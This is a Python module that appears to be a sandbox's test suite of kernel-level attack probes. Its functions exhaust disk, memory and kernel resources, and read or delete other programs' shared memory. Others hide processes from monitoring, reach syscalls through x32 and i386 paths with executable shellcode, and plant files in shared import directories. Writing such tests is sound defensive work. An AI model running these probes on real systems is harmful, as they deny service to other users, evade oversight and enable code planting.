"""What scene code that knows the kernel well might try: each a way to use up, hold or reach what is not its own.

Those that need no such knowledge are in `attacks`. For sandboxes only.
"""

import ctypes
import fcntl
import mmap
import os
import platform
import socket
import threading
import time
from array import array
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, Final

_MIB: Final = 1 << 20
_SET_LEASE: Final = 1024
_NO_RESERVE: Final = 0x4000
_AARCH64: Final = platform.machine() == "aarch64"
_EXIT_THREAD: Final = 93 if _AARCH64 else 60
_IO_SETUP: Final = 0 if _AARCH64 else 206
_CLOSE_RANGE: Final = 436
_library: Final = ctypes.CDLL(None, use_errno=True)
_library.shmat.restype = ctypes.c_void_p


def run(job: Mapping[str, Any]) -> object:
    """The worker's entry point."""
    attack: Callable[[str], object] = globals()[job["attack"]]
    return attack(job["target"])


def attach_shared_memory(target: str) -> object:
    """Of a program of the user's, whose number can be guessed."""
    return ctypes.string_at(_checked(_library.shmat(int(target), None, 0)), 16).decode()


def remove_shared_memory(target: str) -> object:
    return _checked(_library.shmctl(int(target), 0, None))


def remove_message_queue(target: str) -> object:
    return _checked(_library.mq_unlink(target.encode()))


def lease_file(target: str) -> None:
    """Whoever opens a file that is leased waits until the lease is given back, or for 45 s."""
    fcntl.fcntl(os.open(target, os.O_RDONLY), _SET_LEASE, fcntl.F_WRLCK)
    time.sleep(60)


def read_attribute(target: str) -> object:
    return os.getxattr(target, "user.note").decode()


def allocate_disk_unwritten(_: str) -> None:
    """Files without a name, whose place on disk is taken without a byte being written."""
    for number in range(20):
        file = os.open(str(number), os.O_RDWR | os.O_CREAT)
        Path(str(number)).unlink()
        os.posix_fallocate(file, 0, 8 * _MIB)
    time.sleep(60)


def fill_disk_by_sparse_writes(_: str) -> None:
    """A byte in each page: few are written, and all are taken."""
    files = []
    for number in range(20):
        files.append(os.open(str(number), os.O_RDWR | os.O_CREAT))
        Path(str(number)).unlink()
        for page in range(0, 8 * _MIB, mmap.PAGESIZE):
            os.pwrite(files[-1], b"x", page)
    time.sleep(60)


def fill_memory_with_page_tables(_: str) -> object:
    """Pages that are only read are all the same one, but the tables that lead there are not."""
    pages = mmap.mmap(-1, 1 << 40, prot=mmap.PROT_READ, flags=mmap.MAP_PRIVATE | _NO_RESERVE)
    return sum(pages[at] for at in range(0, 1 << 40, 2 * _MIB))


def hoard_behind_an_ended_thread(_: str) -> None:
    """When a process's first thread has ended, /proc says nothing of the memory that the others take."""
    threading.Thread(target=_hoard_shared_memory).start()
    _library.syscall(_EXIT_THREAD, 0)


def _hoard_shared_memory() -> None:
    hoard = []
    for _ in range(16):
        hoard.append(mmap.mmap(-1, 64 * _MIB))
        hoard[-1].write(b"x" * (64 * _MIB))
        time.sleep(0.02)
    os.write(3, b'{"value": "a hoard"}\n')
    os._exit(0)


def take_all_file_watches(_: str) -> object:
    """A user has 128 by default, with all programs together."""
    return [_checked(_library.inotify_init1(0)) for _ in range(40)]


def take_all_timers(_: str) -> object:
    """Their signals are taken from what the user has of them, with all programs together."""
    return [_checked(_library.timer_create(1, None, ctypes.byref(ctypes.c_void_p()))) for _ in range(1000)]


def take_all_asynchronous_io(_: str) -> object:
    """The machine has 65536 places, for all users."""
    return _checked(_library.syscall(_IO_SETUP, 60_000, ctypes.byref(ctypes.c_ulong())))


def widen_pipes(_: str) -> object:
    """What waits in a pipe is memory of nobody's."""
    return fcntl.fcntl(os.pipe()[1], fcntl.F_SETPIPE_SZ, _MIB)


def have_a_second_table_of_files(_: str) -> object:
    return _checked(_library.syscall(_CLOSE_RANGE, 1000, 1001, 2))


def hide_files_in_a_socket(_: str) -> object:
    here, _there = socket.socketpair()
    rights = array("i", [os.open("hidden", os.O_RDWR | os.O_CREAT)])
    return here.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


def hide_from_the_guardian(_: str) -> object:
    """A process that is not dumpable tells nothing of its files."""
    return _checked(_library.prctl(4, 0, 0, 0, 0))


def call_as_x32(_: str) -> object:
    """The numbers of another way of calling the same kernel: here, a socket's."""
    return _checked(_library.syscall(0x40000000 | 41, 2, 1, 0))


def call_as_i386(_: str) -> object:
    """A third way: machine code that asks by interrupt, with i386's numbers."""
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()


def list_open_files(_: str) -> object:
    found = {}
    for number in range(1024):
        try:
            found[str(number)] = Path(f"/proc/self/fd/{number}").readlink().name.partition(":")[0]
        except OSError:
            continue
    return found


def write_to_what_others_import(_: str) -> object:
    """Or draw with: packages, fonts, shared caches."""
    places = map(Path, (mmap.__file__ or "", os.__file__, __file__, "/usr/share/fonts/x", "/var/cache/fontconfig/x"))
    return [str(place) for place in places if _can_write(place.parent / "planted.py")]


def _can_write(file: Path) -> bool:
    try:
        file.write_text("x")
    except OSError:
        return False
    return True


def raise_what_cannot_be_told(_: str) -> object:
    class Untellable(Exception):  # noqa: N818 - the attack
        def __str__(self) -> str:
            raise RuntimeError

    raise Untellable


def raise_what_led_to_itself(_: str) -> object:
    problem = RuntimeError("round and round")
    raise problem from problem


def stop_itself(_: str) -> None:
    os.kill(os.getpid(), 19)


def close_everything(_: str) -> object:
    os.closerange(0, 4096)
    return "done"


def _checked(answer: int | None) -> int:
    if answer is None or answer in (-1, 2**64 - 1):
        raise OSError(ctypes.get_errno(), "refused")
    return answer
